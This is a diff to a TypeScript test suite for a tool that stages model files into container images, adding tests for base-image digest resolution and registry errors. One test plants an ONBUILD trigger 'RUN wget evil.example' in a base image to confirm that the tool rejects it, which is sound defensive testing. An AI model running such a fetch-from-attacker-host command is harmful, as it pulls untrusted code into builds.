@@ -21,7 +21,7 @@ import { IMAGE_LABELS } from "../../../src/api/image-labels.ts";
 import { stageSource, type StageSourceOptions } from "../../../src/cli/stage-source.ts";
 import { verifyImage } from "../../../src/cli/verify-image.ts";
 import { createLogger } from "../../../src/telemetry/logger.ts";
-import { pushImage, type TestLayer } from "./push.ts";
+import { OCI_MANIFEST, pushImage, pushManifest, type TestLayer } from "./push.ts";
 import { LOGIN, startRegistry, type TestRegistry } from "./registry.ts";
 
 const UID = "11111111-2222-4333-8444-555555555555";
@@ -34,9 +34,11 @@ interface Ended {
 
 let root: string;
 let registry: TestRegistry;
+let baseDigest: string;
 
 beforeAll(async () => {
   registry = await startRegistry();
+  baseDigest = await pushImage(`http://${registry.host}`, "base", "1", { layers: [] });
 });
 
 afterAll(async () => {
@@ -69,9 +71,9 @@ describe("stage-source with a model", () => {
     const { fingerprint } = JSON.parse(readFileSync(join(root, "build/source.json"), "utf8")) as {
       fingerprint: string;
     };
-    expect(readFileSync(join(root, "build/Dockerfile"), "utf8")).toBe(
+    expect(readDockerfile()).toBe(
       [
-        "FROM registry.example/busybox:1",
+        `FROM ${registry.host}/base@${baseDigest}`,
         `LABEL model.kubedl.io/source=${fingerprint}`,
         "COPY --chown=0:0 source/ /kubedl-model/",
         "COPY --chown=0:0 staged/ /kubedl-model/",
@@ -84,7 +86,7 @@ describe("stage-source with a model", () => {
   test("writes a Dockerfile for an image that holds nothing but the model", async () => {
     makeModel();
     expect(await stage({ baseImage: "scratch" })).toEqual({ exitCode: 0, report: undefined });
-    expect(readFileSync(join(root, "build/Dockerfile"), "utf8")).toMatch(/^FROM scratch\nLABEL /);
+    expect(readDockerfile()).toMatch(/^FROM scratch\nLABEL /);
   });
 
   test("reads only its own directory of the volume", async () => {
@@ -213,6 +215,74 @@ describe("stage-source and the registry", () => {
   });
 });
 
+describe("stage-source and the base image", () => {
+  test("has kaniko take the one for this machine, by its digest", async () => {
+    makeModel();
+    const type = "application/vnd.oci.image.index.v1+json";
+    const os = "linux";
+    const manifests = [
+      { os, architecture: "s390x" },
+      { os, architecture: process.arch === "x64" ? "amd64" : process.arch },
+    ].map((platform, size) => ({ mediaType: OCI_MANIFEST, digest: baseDigest, size, platform }));
+    const index = JSON.stringify({ schemaVersion: 2, mediaType: type, manifests });
+    await pushManifest(`http://${registry.host}`, "base", "index", type, index);
+    expect(await stage({ baseImage: `${registry.host}/base:index` })).toMatchObject({
+      exitCode: 0,
+    });
+    expect(readDockerfile()).toContain(`FROM ${registry.host}/base@${baseDigest}\n`);
+  });
+
+  test.each(["base@DIGEST", "base:1@DIGEST"])("reads %s by its digest", async (name) => {
+    makeModel();
+    const baseImage = `${registry.host}/${name.replace("DIGEST", baseDigest)}`;
+    expect(await stage({ baseImage })).toMatchObject({ exitCode: 0 });
+    expect(readDockerfile()).toContain(`FROM ${registry.host}/base@${baseDigest}\n`);
+  });
+
+  test("stops at one with triggers, which kaniko would run", async () => {
+    makeModel();
+    const onBuild = ["RUN wget evil.example", "COPY a b"];
+    const triggered = { onBuild, layers: [] };
+    const digest = await pushImage(`http://${registry.host}`, "base", "onbuild", triggered);
+    expect(await stage({ baseImage: `${registry.host}/base:onbuild` })).toEqual({
+      exitCode: 1,
+      report: {
+        state: "failed",
+        reason: "BaseImageTriggers",
+        message: `base image ${registry.host}/base:onbuild (${digest}) has triggers (ONBUILD), the first of them "RUN wget evil.example"; a base image must have none`,
+      },
+    });
+    expect(existsSync(join(root, "build/Dockerfile"))).toBe(false);
+  });
+
+  test("says that there is none", async () => {
+    makeModel();
+    expect(await stage({ baseImage: `${registry.host}/base:2` })).toMatchObject({
+      report: {
+        reason: "ImagePullFailed",
+        message: `base image ${registry.host}/base:2 does not exist in its registry`,
+      },
+    });
+  });
+
+  test("says that its registry does not answer", async () => {
+    makeModel();
+    const host = `127.0.0.1:${await findFreePort()}`;
+    expect(await stage({ baseImage: `${host}/base:1` })).toMatchObject({
+      report: { reason: "RegistryUnreachable" },
+    });
+  });
+
+  test("adopts what an earlier attempt pushed without asking for it", async () => {
+    makeModel();
+    await stage();
+    const digest = await pushBuilt();
+    expect(await stage({ baseImage: `${registry.host}/base:2` })).toMatchObject({
+      report: { state: "adopted", image: { digest } },
+    });
+  });
+});
+
 describe("stage-source and credentials", () => {
   let closed: TestRegistry;
 
@@ -248,6 +318,18 @@ describe("stage-source and credentials", () => {
     });
   });
 
+  test("says that the base image's registry wants some", async () => {
+    makeModel();
+    const { report } = await stage({
+      baseImage: `${closed.host}/base:1`,
+      insecureRegistries: [registry.host, closed.host],
+    });
+    expect(report).toMatchObject({
+      reason: "ImagePullFailed",
+      message: `base image ${closed.host}/base:1 can not be pulled: ${closed.host} asks for a login; there are no credentials for it`,
+    });
+  });
+
   test("says that the named Secret does not exist", async () => {
     makeModel();
     expect(await stageClosed({ credentialsSecret: "push" })).toMatchObject({
@@ -269,7 +351,7 @@ describe("stage-source and credentials", () => {
   async function stageClosed(more: Partial<StageSourceOptions> = {}): Promise<Ended> {
     return stage({
       image: `${closed.host}/models/digits:v1`,
-      insecureRegistries: [closed.host],
+      insecureRegistries: [registry.host, closed.host],
       ...more,
     });
   }
@@ -399,6 +481,10 @@ function makeModel(): void {
   symlinkSync("weights.bin", join(model, "latest"));
 }
 
+function readDockerfile(): string {
+  return readFileSync(join(root, "build/Dockerfile"), "utf8");
+}
+
 function image(): string {
   return `${registry.host}/models/${repositoryOf(root)}:v1`;
 }
@@ -431,7 +517,7 @@ async function end(
     build: join(root, "build"),
     image: image(),
     versionUid: UID,
-    baseImage: "registry.example/busybox:1",
+    baseImage: `${registry.host}/base:1`,
     credentials: join(root, "config.json"),
     insecureRegistries: [registry.host],
     terminationLog,
